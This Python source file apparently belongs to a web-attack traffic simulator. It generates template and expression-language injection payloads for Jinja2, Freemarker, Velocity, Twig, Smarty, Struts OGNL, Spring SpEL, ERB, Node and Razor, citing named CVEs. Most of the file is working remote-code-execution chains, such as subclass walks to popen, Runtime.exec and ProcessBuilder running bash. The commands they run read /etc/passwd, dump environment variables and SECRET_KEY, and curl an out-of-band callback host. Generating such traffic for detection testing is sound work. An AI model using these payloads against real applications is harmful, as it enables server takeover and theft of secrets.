"""Template and expression-language injection by tools and by hand.

Sources: tplmap and PortSwigger's decision tree (arithmetic first), published Jinja2, Twig, Freemarker, Velocity and ERB
chains, Struts OGNL (S2-045, S2-057) and Spring SpEL (CVE-2022-22963) exploits, Confluence CVE-2022-26134.
"""

# fmt: off
# Declarations read better a line each than an element each.
from __future__ import annotations

from random import Random

from simulator.payloads import wire
from simulator.payloads.aim import Aim, Shot
from simulator.web.words import identifier


def _command(rng: Random) -> str:
    return rng.choice(("id", "whoami", "cat /etc/passwd", "uname -a", "ls /", f"curl {identifier(rng, 12)}.oast.site", "env"))


def arithmetic(rng: Random, aim: Aim) -> Shot:
    """A product of two numbers in the marks of every engine."""
    a, b = rng.randrange(7, 99999), rng.randrange(7, 99999)
    if rng.random() < 0.3:
        a = b = 7
    text = rng.choice((f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a}*{b} %>", f"#{{{a}*{b}}}", f"*{{{a}*{b}}}", f"{{{{{a}*'{b}'}}}}", f"@({a}*{b})",
        f"{{{a}*{b}}}", f"${{{{{a}*{b}}}}}", f"[[${{{a}*{b}}}]]", "${{<%[%'\"}}%\\.", f"{{% debug %}}{identifier(rng, 3)}",
        f"a{{{{{identifier(rng, 3)}}}}}b", f"#set($x={a}*{b})${{x}}"))
    return aim.query(rng, rng.choice((wire.library, wire.library, wire.browser, wire.curl))(rng, text), "text")


def jinja(rng: Random, aim: Aim) -> Shot:
    """From any object to its classes to a shell, in Python's templates."""
    n, command = rng.randrange(30, 500), _command(rng)
    start = rng.choice(("''", "[]", "()", "config", "request", "self", "lipsum", "cycler", "namespace", "url_for"))
    text = rng.choice((
        f"{{{{{start}.__class__.__mro__[{rng.choice((1, 2))}].__subclasses__()[{n}]('{command}',shell=True,stdout=-1).communicate()}}}}",
        f"{{{{{start}.__init__.__globals__.os.popen('{command}').read()}}}}", "{{config.items()}}", "{{config['SECRET_KEY']}}",
        f"{{{{request.application.__globals__.__builtins__.__import__('os').popen('{command}').read()}}}}",
        f"{{% for x in {start}.__class__.__base__.__subclasses__() %}}{{% if 'warning' in x.__name__ %}}{{{{x()._module.__builtins__['__import__']('os').popen('{command}').read()}}}}{{%endif%}}{{% endfor %}}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')}}",
        "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}",
    ))
    if rng.random() < 0.2:
        return aim.path(rng, wire.library(rng, text))
    return aim.query(rng, wire.library(rng, text), "text")


def engines(rng: Random, aim: Aim) -> Shot:
    """Freemarker, Velocity, Twig, Smarty, Pebble."""
    command = _command(rng)
    text = rng.choice((
        f"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ ex(\"{command}\")}}",
        f"${{\"freemarker.template.utility.Execute\"?new()(\"{command}\")}}",
        f"#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"{command}\")",
        f"{{{{_self.env.registerUndefinedFilterCallback('exec')}}}}{{{{_self.env.getFilter('{command}')}}}}",
        f"{{{{['{command}']|filter('system')}}}}", f"{{{{['{command}',0]|sort('system')|join}}}}", f"{{system('{command}')}}",
        f"{{php}}echo `{command}`;{{/php}}", f"{{{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('{command}') }}}}",
        "{if phpinfo()}{/if}", "{$smarty.version}", "{{app.request.server.all|join(',')}}",
    ))
    return aim.query(rng, rng.choice((wire.library, wire.form))(rng, text), "text")


def expressions(rng: Random, aim: Aim) -> Shot:
    """Java's expression languages: OGNL and SpEL, in parameter, path and header."""
    command = _command(rng)
    text = rng.choice((
        f"${{T(java.lang.Runtime).getRuntime().exec('{command}')}}",
        f"%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])))."
        f"(#cmd='{command}').(#p=new java.lang.ProcessBuilder({{'/bin/bash','-c',#cmd}})).(#process=#p.start())}}",
        f"%{{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{{\"{command.split()[0]}\"}})).redirectErrorStream(true).start()}}",
        f"${{(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"{command}\").getInputStream(),\"utf-8\"))}}",
        f"${{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('{command}')}}",
        f"#{{''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('{rng.randrange(99)}*2')}}",
        f"__${{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{command}').getInputStream()).next()}}__::.x",
        "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}", f"${{@java.lang.Thread@sleep({rng.randrange(4, 12)}000)}}",
    ))
    draw = rng.random()
    if draw < 0.35:
        return Shot("/" + wire.library(rng, text) + rng.choice(("/", "/index.action", "")))
    if draw < 0.5:
        return Shot(rng.choice(("/index.action", "/login.action", "/struts2-showcase/index.action", "/functionRouter")),
            "redirect:" + wire.library(rng, text))
    return aim.query(rng, wire.library(rng, text), "text")


def embedded(rng: Random, aim: Aim) -> Shot:
    """Code marks of Ruby, Node, Razor and Go that evaluate what is inside."""
    command = _command(rng)
    text = rng.choice((f"<%= system('{command}') %>", f"<%= `{command}` %>", "<%= File.open('/etc/passwd').read %>",
        f"#{{global.process.mainModule.require('child_process').execSync('{command}')}}",
        f"- var x = root.process.mainModule.require; x('child_process').exec('{command}')",
        f"@{{System.Diagnostics.Process.Start(\"cmd.exe\",\"/c {command}\");}}",
        f"{{{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('{command}')\")()}}}}",
        "{{.}}{{printf \"%s\" .Secret}}", f"<%- global.process.mainModule.require('child_process').execSync('{command}') %>",
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{lookup string.sub \"constructor\"}}{{/with}}{{/with}}",
        f"settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('{command}');s"))
    return aim.query(rng, rng.choice((wire.library, wire.browser))(rng, text), "text")
